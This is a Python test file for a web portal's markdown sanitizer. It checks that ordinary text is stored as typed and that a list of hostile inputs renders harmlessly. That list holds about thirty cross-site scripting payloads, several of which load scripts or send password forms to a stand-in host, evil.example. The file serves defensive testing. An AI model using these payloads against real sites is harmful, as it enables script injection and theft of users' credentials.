"""Markdown: harmless whatever is typed, and nothing an editor typed is lost."""

import re

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.lib.richtext import TAGS, clean_markdown, plain_text, render_markdown

ORDINARY = [
    "a < b & c",
    "1<2 and 3>2",
    "费用 <5 万元 & 期限 >20 日",
    "x &lt; y",
    "AT&T v. R&D",
    "<https://www.uspto.gov/>",
    "<office@example.org>",
    "a <- b, <3",
    "[words](https://example.org/a?b=1&c=2)",
    "| a | b |\n| --- | --- |\n| 1 | 2 |",
    "> quote\n\n- one\n- two\n\n    code",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_is_stored_as_typed(text: str) -> None:
    assert clean_markdown(text) == text


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<style>@import '//evil.example'</style>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]( \tjavascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "<javascript:alert(1)>",
    "<https://a.example/'onclick='alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "# <b onclick=alert(1)>x</b>",
    "| <script>a</script> |\n| --- |\n| <b> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<form action=//evil.example><input name=password></form>",
    "<base href=//evil.example>",
    "<p style='position:fixed;inset:0'>x</p>",
    "\x00<script\x00>alert(1)</script>",
]
TAG = re.compile(r"<\s*/?\s*([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")


def assert_harmless(html: str) -> None:
    for name, attributes in TAG.findall(html):
        assert name in TAGS
        assert not re.search(r"(?i)(\bon\w+|style|src|srcset|formaction)\s*=", re.sub(r'"[^"]*"', '""', attributes))
        for address in re.findall(r'href="([^"]*)"', attributes):
            assert not re.match(r"(?i)\s*(javascript|data|vbscript)", address)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_harmless_as_typed_and_as_stored(text: str) -> None:
    assert_harmless(render_markdown(text))
    assert_harmless(render_markdown(clean_markdown(text)))


@pytest.mark.parametrize("text", [text for text in HOSTILE if "<" in text])
def test_what_is_stored_holds_no_html_for_another_reader(text: str) -> None:
    stored = re.sub(r"<(https?|mailto):[^\s<>]+>", "", clean_markdown(text))
    assert not nh3.is_html(stored)


def test_a_tag_is_shown_as_the_text_it_was() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown(clean_markdown("<script>alert(1)</script>"))
    assert "&lt;b&gt;fett&lt;/b&gt;" in render_markdown("<b>fett</b>")


def test_comparison_signs_are_shown_as_typed() -> None:
    assert "a &lt; b &amp; c" in render_markdown(clean_markdown("a < b & c"))


@given(st.text(alphabet=st.sampled_from("<>/!?&;#:a bscript\n`*[]()\"'=-\x00中https@."), max_size=80))
def test_cleaning_twice_changes_nothing_and_leaves_no_html(text: str) -> None:
    stored = clean_markdown(text)
    assert clean_markdown(stored) == stored
    without_links = re.sub(r"<(https?://|mailto:)[^\s<>]+>|<[\w.+-]+@[\w.-]+>", "", stored)
    assert not re.search(r"<[A-Za-z/!?]", without_links)
    assert_harmless(render_markdown(stored))


@given(st.text(alphabet=st.characters(exclude_characters="<", exclude_categories=["Cs", "Cc", "Cf"]), max_size=200))
def test_text_without_angle_brackets_only_loses_space_at_its_ends(text: str) -> None:
    import unicodedata

    assert clean_markdown(text) == unicodedata.normalize("NFC", text).strip()


@pytest.mark.parametrize(
    ("source", "levels"),
    [
        ("# a\n\n## b\n\n### c", ["h3", "h4", "h5"]),
        ("## a\n\n## b", ["h3", "h3"]),
        ("## a\n\n# b\n\n## c", ["h3", "h3", "h4"]),
        ("# a\n\n#### b", ["h3", "h4"]),
        ("# a\n\n## b\n\n### c\n\n#### d\n\n##### e\n\n###### f", ["h3", "h4", "h5", "h6", "h6", "h6"]),
    ],
)
def test_headings_start_under_the_pages_own_and_skip_no_level(source: str, levels: list[str]) -> None:
    assert re.findall(r"<(h\d)>", render_markdown(source)) == levels
    assert re.findall(r"<(h\d)>", render_markdown("# a", level=2)) == ["h2"]


def test_links_keep_their_address_and_lead_out_without_trust() -> None:
    html = render_markdown("[a](https://example.org/x) [b](/laws/US/) [c](mailto:a@example.org)")
    assert 'href="https://example.org/x"' in html
    assert 'href="/laws/US/"' in html
    assert 'href="mailto:a@example.org"' in html
    assert 'rel="noopener nofollow"' in html


def test_tables_and_lists_come_out() -> None:
    html = render_markdown("| a | b |\n| --- | ---: |\n| 1 | 2 |\n\n3. c\n4. d")
    assert "<td>1</td>" in html
    assert "style" not in html
    assert "<li>c</li>" in html


def test_plain_text_keeps_the_words_and_none_of_the_marks() -> None:
    source = "### 337\n\n**337 调查** & [see](https://e.org)\n\n| a | b |\n| --- | --- |\n| 1 | 2 < 3 |\n\n- one"
    assert plain_text(source) == "337 337 调查 & see a b 1 2 < 3 one"
